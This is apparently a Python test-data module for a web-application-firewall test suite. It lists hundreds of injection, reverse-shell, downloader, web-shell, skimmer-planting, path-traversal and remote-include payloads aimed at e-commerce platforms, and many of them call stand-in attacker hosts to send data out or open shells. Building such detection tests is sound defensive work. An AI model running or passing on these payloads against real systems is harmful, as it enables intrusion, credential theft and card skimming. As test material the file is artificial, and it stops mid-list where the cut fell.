"""Blind set "twohundredninth": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at online shops and the services around them, with benign requests that carry the same words
innocently.

The angle: e-commerce and payment platforms, recalled from memory. Each payload is written the way it is aimed at
a shop: Magento/Adobe Commerce, WooCommerce and its WordPress plugins, PrestaShop, OpenCart, Shopware, Shopify and
BigCommerce apps, headless storefronts, cart and checkout APIs, coupon and gift-card endpoints, product search and
faceted filters, reviews and Q&A, order-tracking pages, the invoice and shipping-label PDF generators (which shell
out to wkhtmltopdf, ImageMagick, barcode tools), payment-provider callbacks and webhooks (IPN, 3-D Secure returns),
ERP and marketplace feed importers (CSV, XML, fetched by URL) and the shop admin. Payloads use each platform's own
file layout (app/etc/env.php, wp-config.php, app/config/parameters.php, config.php, .env), log places
(var/log/system.log, wc-logs, var/logs) and parameter names (route, path, template, feed_url). Each group of
payloads carries a short comment naming its family, platform and target (shell, cmd.exe, PowerShell, PHP include,
the web server, the product).

Families (one sub-family per detection title):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS}, globbing, brace
    expansion, variables), windows-cmd-injection, powershell, unix-command-with-path, reverse-shell (bash
    /dev/tcp, nc, python, perl, socat, php, awk), shellshock, downloader-pipe-to-shell (curl/wget | sh),
    shell-file-write (echo > / tee / crontab), restricted-file-in-command
  lfi: path-traversal (../ and ..\\ in every encoding), os-file-access (/etc, /proc/self, win.ini, boot.ini,
    web.config, .htaccess, .git, .env, id_rsa), absolute-path, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-target, restricted-file-extension (.bak/.old/.swp/.sql/.ini)
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url (page/file/template/
    include/path and the platforms' own include parameters), off-domain-reference, rfi-protocol (ftp://,
    smb://, \\\\host\\share, data:, expect:, gopher:, dict:, jar:)

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the shop's own parameter names (sku, order_id, coupon_code, file, template,
feed_url, ...), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Shellshock strings go to headers, cookies and CGI query strings
(the regression copy to a CGI path); the platforms' own include parameters written as `name=value` go as raw
query strings and form bodies. Payloads with control characters (newline, CR, NUL) never go into headers, cookies
or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, shop
platforms and their file layouts as remembered, and the detection titles alone; no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no
clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredninth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
KV = ("query", "rs-query")
KVF = ("form", "rs-raw-body")

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection: separators after the value a shop passes to a shell (target: /bin/sh behind the product)
UNIX_INJECTION: list[Entry] = [
    # Magento barcode/label module: the SKU goes into `zint -d <sku>` (target: /bin/sh)
    "TSH-BLK-M;id",
    "TSH-BLK-M|id",
    "TSH-BLK-M || uname -a",
    "TSH-BLK-M && cat /etc/passwd",
    # order-tracking page: the tracking number goes into a carrier CLI call (target: /bin/sh)
    "1Z999AA10123456784;curl -s http://203.0.113.9/$(whoami)",
    "1Z999AA10123456784`id`",
    "00340434161094042557$(id)",
    "1Z999AA10123456784\nid",
    "1Z999AA10123456784\r\nuname -a",
    # coupon / gift-card endpoint that shells out to a legacy voucher checker (target: /bin/sh)
    "SUMMER25;sleep 10;",
    "GC-7781-4410 & id &",
    "GC-7781-4410|| ping -c 10 127.0.0.1",
    # product image upload: ImageMagick `convert <name>` in a WooCommerce thumbnail plugin (target: /bin/sh)
    "hero.jpg;ls -la /var/www/magento/app/etc",
    "hero.jpg`cat /var/www/html/wp-config.php`",
    # invoice PDF generator: wkhtmltopdf with the order number in the output name (target: /bin/sh)
    "INV-2024-00042.pdf && sleep 10",
    "INV-2024-00042$(cat /var/www/magento/app/etc/env.php).pdf",
    # webhook URL check: the admin's "test connection" pings the host (target: /bin/sh)
    "shop.example.com; id",
    "127.0.0.1 | id",
    "8.8.8.8 && whoami",
    "erp.example.com | nslookup $(whoami).oast.example",
    # Shopware / PrestaShop console runners that take a job name from the admin (target: /bin/sh)
    "theme:compile; php -r 'system(\"id\");'",
    "product:import;ps aux #",
]

# unix-shell-evasion: quotes, ${IFS}, globbing, brace expansion and variables (target: bash/dash)
SHELL_EVASION: list[Entry] = [
    # the label module strips spaces from the SKU: ${IFS} and braces stand in
    "TSH-1;cat${IFS}/etc/passwd",
    "TSH-1;{cat,/etc/passwd}",
    "TSH-1;cat$IFS$9/var/www/magento/app/etc/env.php",
    "TSH-1;{ls,-la,/var/www/magento/pub/media}",
    "TSH-1;cat</etc/passwd",
    # a keyword blacklist on cat/passwd in the tracking field: quotes and backslashes split the words
    "1Z999;c'a't /e'tc'/pa'ss'wd",
    '1Z999;c"a"t /e"tc"/pa"ss"wd',
    "1Z999;c\\at /et\\c/pas\\swd",
    "1Z999;w$@hoami",
    "1Z999;who$()ami",
    "1Z999;i\\d",
    # globbing for blacklisted paths (OpenCart export on a shared host)
    "x;/???/??t /???/p??s??",
    "x;/b??/c?t /e??/p?ss?d",
    "x;/usr/bin/ca[t] /etc/pas[s]wd",
    # variables and substrings building the command
    "x;a=c;b=at;$a$b /etc/passwd",
    "x;cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "x;$(printf 'id')",
    "x;$'\\x63\\x61\\x74' /etc/passwd",
    "x;$(rev<<<'imaohw')",
    "x;$(tr 'a-z' 'n-za-m' <<< 'vq')",
    "x;echo aWQ=|base64 -d|sh",
    "x;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|bash",
    "x;IFS=,;`cat<<<uname,-a`",
]

# windows-cmd-injection: WooCommerce on XAMPP/IIS, a Windows ERP connector (target: cmd.exe)
WINDOWS_CMD: list[Entry] = [
    "TSH-BLK-M & whoami",
    "TSH-BLK-M | type C:\\Windows\\win.ini",
    "100045 && dir C:\\inetpub\\wwwroot",
    "100045 || net user",
    "& ipconfig /all",
    "| systeminfo",
    "& type C:\\xampp\\htdocs\\wp-config.php",
    "& cmd /c \"net localgroup administrators\"",
    "& w^h^o^a^m^i",
    "& echo %USERNAME% %COMPUTERNAME%",
    "& ping -n 11 127.0.0.1",
    "%COMSPEC% /c whoami",
    "& tasklist /v",
    "& findstr /si password C:\\inetpub\\wwwroot\\*.config",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "INV-2024-00042\r\ndir C:\\",
    "& certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "| nslookup %USERDOMAIN%.oast.example",
    "& copy C:\\ERP\\config\\connection.ini C:\\inetpub\\wwwroot\\c.txt",
    "& wmic process call create \"cmd.exe /c whoami > C:\\inetpub\\wwwroot\\w.txt\"",
]

# powershell: nopCommerce / IIS hosts and the Windows label-print server (target: PowerShell)
POWERSHELL: list[Entry] = [
    "; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')\"",
    "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu"
    "AGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=",
    "& powershell -EncodedCommand dwBoAG8AYQBtAGkA",
    "| powershell Get-Content C:\\inetpub\\wwwroot\\web.config",
    "& powershell -w hidden -c Invoke-WebRequest -Uri http://203.0.113.9/x -Method POST "
    "-Body (Get-ChildItem Env: | Out-String)",
    "; pwsh -c 'Get-Process'",
    "& powershell.exe Start-Process cmd -ArgumentList '/c whoami'",
    "| powershell -ExecutionPolicy Bypass -File \\\\203.0.113.9\\s\\r.ps1",
    "& powershell [System.Net.Dns]::GetHostAddresses($env:COMPUTERNAME+'.oast.example')",
    "& powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}\"",
    "& powershell Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
    "& powershell gci C:\\inetpub -Recurse -Include *.config | Select-String connectionString",
    "; powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "& powershell Add-MpPreference -ExclusionPath C:\\ProgramData",
    "& powershell (New-Object System.Net.WebClient).DownloadFile('http://203.0.113.9/n.exe','C:\\Users\\Public\\n.exe')",
    "& powershell Get-WmiObject Win32_ComputerSystem",
    "& powershell Compress-Archive C:\\inetpub\\wwwroot\\App_Data C:\\inetpub\\wwwroot\\d.zip",
    "| powershell -c \"Get-Content C:\\inetpub\\nopCommerce\\App_Data\\appsettings.json\"",
    "& powershell iwr http://203.0.113.9/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe",
    "& powershell New-LocalUser -Name shopadm -Password (ConvertTo-SecureString 'P@ssw0rd1!' -AsPlainText -Force)",
]

# unix-command-with-path: absolute paths to binaries after a separator (target: /bin/sh)
UNIX_PATHS: list[Entry] = [
    "TSH-1;/bin/cat /etc/passwd",
    "TSH-1|/usr/bin/id",
    "TSH-1&&/bin/sh -c id",
    "1Z999;/usr/bin/curl http://203.0.113.9/$(/bin/hostname)",
    "1Z999`/usr/bin/whoami`",
    "1Z999$(/bin/uname -a)",
    # Magento: create a back-office admin with the shop's own CLI
    "x;/usr/bin/php /var/www/magento/bin/magento admin:user:create --admin-user=svc --admin-password=Passw0rd1 "
    "--admin-email=svc@evil.test --admin-firstname=s --admin-lastname=v",
    # WooCommerce: WP-CLI adds an administrator
    "x;/usr/local/bin/wp user create svc svc@evil.test --role=administrator --user_pass=Passw0rd1 --allow-root",
    "x;/usr/bin/mysqldump -uroot magento > /var/www/magento/pub/media/d.sql",
    "x;/usr/bin/crontab -l",
    "x;/sbin/ifconfig -a",
    "x|/usr/bin/env",
    "x;/usr/bin/nc -zv 10.0.0.5 3306",
    "x;/bin/ls -la /var/www/prestashop/config",
    "x;/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    "x;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "INV-1\n/usr/bin/id",
    "x;/usr/local/bin/php /var/www/shopware/bin/console user:create -a -p Passw0rd1 svc",
]

# reverse-shell: bash /dev/tcp, nc, python, perl, socat, php, ruby, awk from the shop host (target: shell)
REVERSE_SHELL: list[Entry] = [
    "TSH-1;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "TSH-1;bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
    "TSH-1;0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    "TSH-1|nc -e /bin/sh 203.0.113.9 4444",
    "TSH-1;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    "TSH-1;ncat 203.0.113.9 4444 -e /bin/bash",
    "x;python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    "x;perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    "x;socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    "x;php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "x;ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "x;telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
    "x;awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print $0|&s;close(c)}}}'",
    "x;sh -i >& /dev/udp/203.0.113.9/53 0>&1",
    "x;busybox nc 203.0.113.9 4444 -e sh",
    "x;exec 5<>/dev/tcp/203.0.113.9/80;cat <&5 | while read l; do $l 2>&5 >&5; done",
    "x;node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 203.0.113.9 4444\")'",
    "x;socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
    "x;nc -lvnp 4444 -e /bin/bash",
    "x;mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.9 4444 1>/tmp/p",
]

# shellshock: old osCommerce/cPanel CGI payment callbacks run by bash (target: bash < 4.3 via CGI environment)
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /usr/bin/wget http://203.0.113.9/s -O /tmp/s",
    "() { :;}; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { ignored;};/bin/sleep 10",
    "() { :; }; /bin/ping -c 3 203.0.113.9",
    "() { (a)=>\\' /bin/bash -c 'cat /etc/passwd'",
    "() { :; }; /usr/bin/curl -d @/etc/passwd http://203.0.113.9/",
    "() { :;}; echo; echo $(</etc/hostname)",
    "() { :; }; /bin/nc 203.0.113.9 4444 -e /bin/sh",
    "() { :; }; /usr/bin/nslookup shellshock.oast.example",
    "() { :; }; exec /bin/bash -c 'id > /var/www/html/s.txt'",
    "() { :; };  /bin/cat /var/www/oscommerce/includes/configure.php",
    "() { foo;};echo;/usr/bin/env",
    "() { :;}; /bin/bash -c \"cd /tmp;curl -O http://203.0.113.9/b;chmod +x b;./b\"",
]

# downloader-pipe-to-shell: fetch a script (skimmer loader, miner, web shell) and run it (target: /bin/sh)
DOWNLOADERS: list[Entry] = [
    "TSH-1;curl -s http://203.0.113.9/m.sh | sh",
    "TSH-1|wget -qO- http://203.0.113.9/x | bash",
    "TSH-1$(curl -fsSL http://203.0.113.9/skimmer.sh | bash)",
    "TSH-1;wget http://203.0.113.9/k -O /tmp/k;chmod +x /tmp/k;/tmp/k",
    "x;curl -o /var/www/html/pub/media/catalog/product/cache/x.php http://203.0.113.9/s.txt",
    "x`curl 203.0.113.9/a|sh`",
    "x;fetch -o - http://203.0.113.9/x.sh | sh",
    "x;lwp-download http://203.0.113.9/x /tmp/x; perl /tmp/x",
    "x;tftp -g -r x.sh 203.0.113.9; sh x.sh",
    "x;curl http://203.0.113.9/x.py | python3",
    "x;wget -q http://203.0.113.9/b64 -O- | base64 -d | sh",
    "x && curl -sk https://cdn-js-analytics.example.net/loader.sh | bash",
    "x;busybox wget http://203.0.113.9/mips -O /tmp/m; sh /tmp/m",
    "x;python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())\"",
    "x;php -r 'file_put_contents(\"/var/www/html/x.php\", file_get_contents(\"http://203.0.113.9/s.txt\"));'",
    "x;curl -F 'f=@/var/www/html/app/etc/env.php' http://203.0.113.9/u",
    "x;scp -o StrictHostKeyChecking=no u@203.0.113.9:/s.sh /tmp/ && sh /tmp/s.sh",
    "x;wget -O /var/www/prestashop/modules/ps_x/x.php http://203.0.113.9/wso.txt",
]

# shell-file-write: echo / printf / tee / crontab plant a web shell, a key, a skimmer (target: /bin/sh)
FILE_WRITE: list[Entry] = [
    "x;echo '<?php system($_GET[\"c\"]); ?>' > /var/www/magento/pub/media/wysiwyg/s.php",
    "x;echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTsgPz4= | base64 -d > /var/www/html/wp-content/uploads/x.php",
    "x|tee /var/www/prestashop/img/p/x.php <<< '<?php eval($_POST[1]);?>'",
    "x;printf '<?php passthru($_REQUEST[0]);' > /var/www/opencart/image/catalog/x.php",
    "x;echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali' >> ~/.ssh/authorized_keys",
    "x;echo '* * * * * root curl 203.0.113.9/c|sh' > /etc/cron.d/m",
    "x;(crontab -l; echo '*/5 * * * * wget -qO- 203.0.113.9/c|sh') | crontab -",
    "x;echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "x;cat > /var/www/shopware/public/x.php <<EOF\n<?php system($_GET[0]);\nEOF",
    # Magecart: the skimmer goes into the theme's footer template
    "x;sed -i 's#</body>#<script src=//203.0.113.9/s.js></script></body>#' "
    "/var/www/magento/app/design/frontend/Acme/default/Magento_Theme/templates/html/footer.phtml",
    "x;echo 'AddType application/x-httpd-php .jpg' > /var/www/html/pub/media/.htaccess",
    "x;echo 'svc:$1$x$Zq0k3pX9:0:0::/root:/bin/bash' >> /etc/passwd",
    "x`echo '<?php @eval($_POST[\"pass\"]);?>' > /var/www/html/checkout.php`",
    "x;cat /tmp/skim.js | tee -a /var/www/html/pub/static/frontend/Magento/luma/en_US/requirejs/require.js",
    "x;touch /var/www/magento/var/.maintenance.flag",
    # WooCommerce / PHPMailer: the sender address reaches sendmail's argv, -X writes the log where PHP runs it
    "\"svc\\\" -oQ/tmp/ -X/var/www/html/wp-content/uploads/log.php some\"@shop.example",
    "x;dd if=/dev/zero of=/var/www/html/var/cache/fill bs=1M count=10000",
]

# restricted-file-in-command: commands that read the shop's secrets (target: /bin/sh)
RESTRICTED_CMD: list[Entry] = [
    "x;cat /etc/shadow",
    "x|cat /var/www/magento/app/etc/env.php",
    "x;head -n 40 /var/www/html/wp-config.php",
    "x;more /var/www/prestashop/app/config/parameters.php",
    "x;tail -n 50 /var/www/shopware/.env",
    "x;grep -r DB_PASSWORD /var/www",
    "x;strings /var/www/opencart/config.php",
    "x;base64 /root/.ssh/id_rsa",
    "x;xxd /etc/shadow",
    "x;nl /etc/passwd",
    "x;od -c /proc/self/environ",
    "x;cat ~/.bash_history",
    "x;cp /var/www/magento/app/etc/env.php /var/www/magento/pub/env.txt",
    "x;tar czf /var/www/html/pub/media/b.tgz /var/www/html/app/etc",
    "x;zip -r /var/www/html/b.zip /var/www/html/wp-content/uploads/wc-logs",
    "x;cat /home/*/.aws/credentials",
    "x;awk 1 /etc/passwd",
    "x;sort /etc/shadow",
    "x;cat /var/www/html/.git/config",
    "x;grep -i stripe_secret /var/www/html/wp-config.php",
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in every encoding, the value as the PHP include / file read receives it
# (target: the platform's template, invoice or image loader)
TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    # double-encoded: the value still carries %2f after the server decoded it once; the loader decodes again
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "..//..//..//..//etc//passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    # SAP Commerce (Hybris) on Tomcat: the path parameter trick
    "/..;/..;/WEB-INF/web.xml",
    # Magento product image resizer, WooCommerce downloadable product, OpenCart theme, PrestaShop
    "catalog/product/../../../../app/etc/env.php",
    "../../../../wp-config.php",
    "catalog/view/theme/default/template/../../../../../../config.php",
    "../../app/config/parameters.php",
    "themes/classic/../../../config/settings.inc.php",
    "..%252f..%252f..%252f.env",
    "..\\..\\App_Data\\appsettings.json",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
]

# os-file-access: the operating-system and deployment files an attacker reads first (target: file loader)
OS_FILES: list[Entry] = [
    "../../../../../etc/shadow",
    "../../../../../proc/self/environ",
    "../../../../../proc/self/cmdline",
    "../../../../../proc/self/status",
    "../../../../../proc/self/maps",
    "../../../../windows/win.ini",
    "..\\..\\..\\..\\boot.ini",
    "../../web.config",
    "../../../.htaccess",
    "../../../.htpasswd",
    "../../../.git/config",
    "../../../.git/HEAD",
    "../../../.env",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/deploy/.ssh/id_rsa",
    "../../../../home/magento/.ssh/authorized_keys",
    "../../../../var/www/.bash_history",
    "../../../../etc/hosts",
    "../../../../etc/issue",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "..\\..\\..\\Windows\\repair\\SAM",
    "../../../../root/.aws/credentials",
    # Magento: repo.magento.com keys in the project's auth.json
    "../../../auth.json",
    "../../../../etc/mysql/my.cnf",
    "../../../.git/logs/HEAD",
]

# absolute-path: the file named outright, no traversal needed (target: include/readfile without a base dir)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/var/www/magento/app/etc/env.php",
    "/var/www/html/wp-config.php",
    "/var/www/prestashop/app/config/parameters.php",
    "/var/www/opencart/admin/config.php",
    "/var/www/shopware/.env",
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\xampp\\htdocs\\wp-config.php",
    "file:///etc/passwd",
    "/proc/self/environ",
    "/proc/version",
    "/root/.bash_history",
    "/etc/nginx/nginx.conf",
    "/etc/apache2/sites-enabled/000-default.conf",
    "/usr/local/etc/php/php.ini",
    "/opt/bitnami/magento/app/etc/env.php",
    "/home/forge/shop.example.com/.env",
    "\\\\?\\C:\\Windows\\win.ini",
    "/var/lib/mysql/mysql/user.MYD",
    "/srv/hybris/config/local.properties",
    "/etc/ssl/private/shop.example.com.key",
]

# null-byte-truncation: the loader appends .tpl/.phtml/.jpg/.pdf; NUL or path length cuts it off
# (target: PHP < 5.3.4 include, file loaders that call C APIs, IIS 6)
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "../../../../etc/passwd%00.tpl",
    "../../../app/etc/env.php\x00.phtml",
    "../../../../wp-config.php%00.html",
    "../../../../etc/passwd" + "/." * 2100,
    "..\\..\\..\\boot.ini" + "." * 300,
    "../../../etc/passwd%2500.xml",
    "..%2f..%2f..%2fetc%2fpasswd%00.csv",
    "../../../../etc/passwd\x00.pdf",
    "../../../../proc/self/environ\x00",
    "../../../config/settings.inc.php\x00.tpl",
    "..\\..\\..\\windows\\win.ini\x00.png",
    "../../../../etc/passwd%00",
    "/etc/passwd\x00.twig",
    "..\\..\\web.config;.jpg",
    "../../../.env\x00.json",
    "../../../../etc/hosts%00index.html",
    "../../../app/etc/env.php%00",
    "../../../../var/log/nginx/access.log\x00.phtml",
    "../../../../etc/passwd" + "./" * 2050 + ".tpl",
    "../../../system/config/default.php\x00.twig",
]

# php-wrapper-lfi: PHP stream wrappers in the include/file_get_contents argument (target: PHP)
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=app/etc/env.php",
    "php://filter/read=convert.base64-encode/resource=../wp-config.php",
    "php://filter/convert.base64-encode/resource=../../config/settings.inc.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/shopware/.env",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "php://input",
    "phar:///var/www/magento/pub/media/customer/a/b/avatar.jpg/test.txt",
    "zip://../../wp-content/uploads/2024/05/invoice.zip#shell.php",
    "compress.zlib:///etc/passwd",
    "glob:///var/www/*/app/etc/*.php",
    "file:///var/www/magento/app/etc/env.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.base64-encode|convert.base64-decode/resource=/etc/passwd",
    "php://filter/convert.base64-encode/resource=catalog/controller/checkout/confirm.php",
    "php://filter/read=string.toupper|string.rot13/resource=admin/config.php",
    "php://filter/convert.quoted-printable-encode/resource=../app/etc/config.php",
    "php://filter/convert.base64-encode/resource=../../../../wp-content/plugins/woocommerce-gateway-stripe/"
    "includes/class-wc-stripe-api.php",
    "phar://./pub/media/tmp/catalog/product/x.gif/y",
    "php://filter/dechunk/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp",
    "compress.bzip2://../../var/export/orders.bz2",
]

# log-poisoning-target: logs and sessions that carry attacker text (User-Agent, a review, a coupon code) and
# are then included (target: PHP include of a log file)
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "../../../../var/log/httpd/access_log",
    "/var/log/auth.log",
    "../../../../proc/self/fd/2",
    "/proc/self/fd/7",
    # Magento, WooCommerce, PrestaShop, Shopware, OpenCart logs of their own
    "../../../var/log/exception.log",
    "../../../../var/www/magento/var/log/debug.log",
    "../../wp-content/debug.log",
    "../../../wp-content/uploads/wc-logs/fatal-errors-2024-05-01.log",
    "../../../var/logs/prod.log",
    "../../../var/log/prod-2024-05-01.log",
    "../../../system/storage/logs/error.log",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/var/lib/php/sessions/sess_8c1f0e2b9d4a7f3e",
    "/tmp/sess_8c1f0e2b9d4a7f3e",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240501.log",
    "/var/log/php-fpm/www-error.log",
    "/usr/local/apache2/logs/access_log",
    "/var/log/nginx/shop.example.com.access.log",
    "....//....//....//proc/self/environ",
]

# restricted-file-extension: backups, swap files, dumps and configs left in the docroot (target: web server)
RESTRICTED_EXT: list[Entry] = [
    "app/etc/env.php.bak",
    "wp-config.php.bak",
    "wp-config.php~",
    "wp-config.php.old",
    "wp-config.php.save",
    "config.php.orig",
    "config/.settings.inc.php.swp",
    "backup/magento_db.sql",
    "dump.sql.gz",
    "../../var/backups/1714561200_db.sql",
    "web.config.bak",
    "App_Data/appsettings.json.old",
    "../app/config/parameters.yml",
    "php.ini",
    "../../.user.ini",
    "../../app/etc/local.xml",
    "../../config/database.ini",
    "../../wp-content/backup-db/shop_backup.sql",
    "config.inc.php.bak",
    "../../.env.bak",
    "../../storage/oauth-private.key",
    "config/settings.inc.php.old",
    "var/db.sqlite.bak",
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: the include/feed URL points at a bare IP, in any of its spellings
# (target: PHP include with allow_url_include, the feed importer's fetcher)
URL_IP: list[Entry] = [
    "http://203.0.113.9/shell.txt",
    "http://198.51.100.23/c99.txt",
    "https://192.0.2.44/r57.php",
    "http://203.0.113.9:8080/x.txt",
    "http://3405803785/shell.txt",
    "http://0xcb007109/shell.txt",
    "http://0313.0.0161.011/s.txt",
    "http://[::ffff:cb00:7109]/s.txt",
    "http://10.0.0.5/admin/feed.php",
    # the marketplace feed importer fetches metadata and the search backend instead of a CSV
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:9200/_cat/indices",
    "http://203.0.113.9/feed.xml",
    "http://198.51.100.23/images/product.jpg.php",
    "http://203.0.113.9/gift-card.txt",
    "//203.0.113.9/x.php",
    "http://192.0.2.10/wp-content/plugins/x/shell.txt",
    "https://203.0.113.9/3ds/acs.php",
    "http://203.0.113.9/x.txt?cmd=id",
    "http://127.0.0.1:15672/api/queues",
    "http://100.100.100.200/latest/meta-data/",
    "http://[::1]:6379/",
    "http://2130706433/admin/",
    "http://203.0.113.9/erp/products.csv",
    "https://198.51.100.23:8443/s.php",
    "http://192.168.1.10/export/customers.csv",
    "http://203.0.113.9/theme/footer.phtml",
    "http://0x7f000001/server-status",
    "http://203.0.113.9/invoice-template.html",
    "http://192.0.2.44/shop/catalog/includes/x.txt",
    "http://203.0.113.9/%2e%2e/x.txt",
]

# url-with-trailing-question-mark: a '?' (or # or NUL) makes the appended .php/.tpl a query string
# (target: PHP include with allow_url_include)
URL_QMARK: list[Entry] = [
    "http://evil.example.net/shell.txt?",
    "http://203.0.113.9/s.txt?",
    "https://pastebin.com/raw/xY7kQ2mN?",
    "http://cdn-shop-assets.example.org/r.txt??",
    "http://evil.example.net/s.txt%3f",
    "http://evil.example.net/s.txt%00",
    "http://evil.example.net/s.txt#",
    "https://raw.githubusercontent.com/attacker/kit/main/wso.txt?",
